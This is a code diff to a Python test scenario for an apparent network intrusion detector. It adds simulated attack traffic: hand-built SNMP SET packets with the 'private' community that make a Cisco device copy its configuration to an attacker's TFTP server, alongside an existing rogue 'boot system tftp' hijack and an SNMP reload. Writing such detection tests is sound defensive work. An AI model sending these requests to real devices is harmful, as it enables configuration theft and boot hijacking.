@@ -1,4 +1,4 @@
-"""Orders and files as the lab's programs send them by TCP and SNMP: Linux's segments, telnetd, nginx, pyftpdlib."""
+"""Orders and files as the lab's programs send them: Linux's segments, telnetd, nginx, pyftpdlib, net-snmp, nmap."""
 
 from __future__ import annotations
 
@@ -7,10 +7,10 @@ from ipaddress import IPv4Address
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, IMAGE, ROGUE
-from bootwarden.traffic import ftp, images, snmp, telnet
+from bootwarden.traffic import ftp, images, snmp, telnet, tftp
 from bootwarden.traffic.wire import Tcp, Wire
 
-WRAPPED, SCROLLED, PASTED, BY_HTTP, BY_FTP, BY_SNMP = (f"10.0.1.{last}" for last in range(81, 87))
+WRAPPED, SCROLLED, PASTED, BY_HTTP, BY_FTP, BY_SNMP, BY_NMAP = (f"10.0.1.{last}" for last in range(81, 88))
 FILE = "images/ios/c2900-universalk9-mz.SPA.152-4.M3.with-something-added.bin"
 EVIL = f"boot system tftp://{ROGUE}/{FILE}"
 COPY, RELOAD = "1.3.6.1.4.1.9.9.96.1.1.1.1", "1.3.6.1.4.1.9.2.9.9.0"
@@ -57,6 +57,26 @@ def copy(server: str) -> list[snmp.Binding]:
     return snmp.row(COPY, 111, {2: 1, 3: 1, 4: 4, 5: IPv4Address(server), 6: "evil.cfg", 14: 4})
 
 
+def _tlv(tag: int, content: bytes) -> bytes:
+    return bytes([tag, len(content)]) + content
+
+
+def by_nmap(wire: Wire, attacker: str, device: str) -> None:
+    """nmap's snmp-ios-config: version 1, a value a request, an address whose type nobody knows, its own TFTP server."""
+    manager = snmp.Manager(wire, attacker, device)
+    octets = b"".join(_tlv(4, octet.encode()) for octet in attacker.split("."))
+    one, four = b"\2\1\1", b"\2\1\4"
+    columns = (
+        (2, one), (3, four), (4, one), (5, b"40" + bytes([len(octets)]) + octets), (15, one),
+        (16, _tlv(4, attacker.encode())), (6, _tlv(4, f"{device}-config".encode())), (14, one),
+    )  # fmt: skip
+    for column, value in columns:
+        oid = _tlv(6, bytes.fromhex("2b0601040109096001010101") + bytes([column]) + b"\xce\x0f")
+        set_request = b"\2\2\x6f\x0c\2\1\0\2\1\0" + _tlv(0x30, _tlv(0x30, oid + value))
+        manager.send(_tlv(0x30, b"\2\1\0" + _tlv(4, b"private") + _tlv(0xA3, set_request)))
+    tftp.write(wire, device, attacker, f"{device}-config", images.config("edge87"))
+
+
 TYPED = (WRAPPED, SCROLLED, PASTED)
 ORDERED = (
     *(alert for device in TYPED for alert in (("BW05", 3, ATTACKER, device), ("BW07", 0, ATTACKER, device))),
@@ -64,6 +84,7 @@ ORDERED = (
     ("BW03", 1, ATTACKER, BY_SNMP),
     ("BW05", 0, ATTACKER, BY_SNMP),
     ("BW30", 1, ATTACKER, BY_SNMP),
+    ("BW03", 0, ATTACKER, BY_NMAP),
 )
 
 
@@ -71,7 +92,12 @@ ORDERED = (
     "BW30",
     "malicious",
     raises=ORDERED,
-    raises_with_site=[*ORDERED, ("BW10", 11, ROGUE, BY_HTTP), ("BW10", 12, ROGUE, BY_FTP)],
+    raises_with_site=[
+        *ORDERED,
+        ("BW10", 11, ROGUE, BY_HTTP),
+        ("BW10", 12, ROGUE, BY_FTP),
+        ("BW18", 0, BY_NMAP, ATTACKER),
+    ],
     site=HQ,
     with_site=Expect(
         (
@@ -84,6 +110,8 @@ ORDERED = (
             Notice("Config_Exfiltration", BY_FTP, ROGUE, "edge75-confg"),
             Notice("SNMP_Config_Copy", BY_SNMP, ROGUE, "evil.cfg"),
             Notice("Netboot_Hijack", BY_SNMP),
+            Notice("SNMP_Config_Copy", BY_NMAP, ATTACKER, f"{BY_NMAP}-config"),
+            Notice("Config_Exfiltration", BY_NMAP, ATTACKER, f"{BY_NMAP}-config"),
         )
     ),
 )
@@ -105,6 +133,7 @@ def bw30_orders_of_the_lab(wire: Wire) -> None:
     manager = snmp.Manager(wire, ATTACKER, BY_SNMP)
     manager.set(*copy(ROGUE))
     manager.set((RELOAD, 2))
+    by_nmap(wire, ATTACKER, BY_NMAP)
 
 
 @scenario(
